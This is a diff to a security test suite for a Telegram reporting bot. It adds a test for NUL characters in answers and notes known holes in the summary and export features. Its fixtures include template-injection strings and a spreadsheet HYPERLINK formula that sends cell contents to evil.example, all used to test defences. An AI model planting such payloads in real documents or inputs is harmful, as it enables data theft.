@@ -9,6 +9,7 @@ user text; the Word export opens and contains the text literally.
 from __future__ import annotations
 
 import io
+import os
 import re
 import shutil
 from collections.abc import AsyncIterator
@@ -23,6 +24,7 @@ from sqlalchemy.engine import Engine
 
 from bot.emulator.tghtml import EntityParseError, parse_html, utf16_len
 from bot.handlers.summary import render_summary_messages
+from bot.texts import render
 from storage.db import session_scope
 from storage.models import Period, Submission
 from tests.security.conftest import Figures
@@ -41,7 +43,7 @@ from tests.support.telegram import FakeUser
 pytestmark = pytest.mark.security
 
 EVIL = "<b>{{ 7*7 }}</code>{% raw %}{# c #} *đậm* _nghiêng_ `mã` [x](http://evil.example) \u202eRTL\u200f\u2066 &amp; & \"'"
-CONTROL = "\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f"
+CONTROL = "\x01\x07\x08\x0b\x0c\x1b[31m\x7f"
 TEN_KB = ("Ấp <i>&#" + "x" * 20 + "</i> {{ 1 }} ")[:40] * 256  # 10 240 characters
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"EVIL")',
@@ -248,6 +250,29 @@ async def test_summaries_render_evil_reports(evil_world: World, figures: Figures
         assert 0 < utf16_len(body) <= TELEGRAM_TEXT_LIMIT
 
 
+@pytest.mark.xfail(
+    condition=os.environ.get("DATABASE_URL", "").startswith("postgres"),
+    strict=True,
+    reason="hole (PostgreSQL): a NUL in a free-text answer is stored, then json_to_record in the summary "
+    "SQL fails ('\\u0000 cannot be converted to text'): /tonghop and the Word export break for the commune",
+)
+async def test_a_nul_character_in_an_answer(evil_world: World, figures: Figures) -> None:
+    """A NUL typed into an answer neither breaks the conversation nor the police's summary and exports."""
+    await evil_world.send(HEAD_E, "/baocao")
+    await evil_world.press_token(HEAD_E, evil_world.last_keyboard(HEAD_E)[1][0])
+    await walk_with(evil_world, HEAD_E, figures, ["a\x00b " + EVIL])
+    await evil_world.press_token(HEAD_E, "confirm")
+    figures.fault("NUL in answer")
+    (sub,) = evil_world.submissions()
+    await evil_world.send(POLICE_X, "/tonghop")
+    await evil_world.press(POLICE_X, f"sm:s:{sub.period_id}:{sub.village_id}")
+    for fmt in ("xlsx", "docx"):
+        await evil_world.press(POLICE_X, f"xe:{sub.period_id}:{fmt}")
+    assert render("common/error.html") not in evil_world.texts(POLICE_X)
+    assert len([c for c in evil_world.request.calls if c.method == "sendDocument"]) == 2
+    check_messages(evil_world, figures)
+
+
 async def _export(world: World, figures: Figures, fmt: str) -> bytes:
     period_id = await _submit_evil_report(world, figures)
     _file_formula_report(world, period_id)
@@ -297,7 +322,8 @@ async def test_word_export_opens_and_contains_the_text_literally(evil_world: Wor
 
 @pytest.mark.xfail(
     strict=True,
-    reason="hole: form loader accepts 10 kB titles/labels and the question screen is sent whole (> 4096)",
+    reason="hole: the form loader accepts 10 kB titles/labels; the question screen is sent whole (> 4096 "
+    "characters) and on PostgreSQL `baocao setup` crashes (form_version.title is varchar(300))",
 )
 async def test_ten_kilobyte_form_labels(
     engine: Engine, database_url: str, tmp_path: Path, figures: Figures
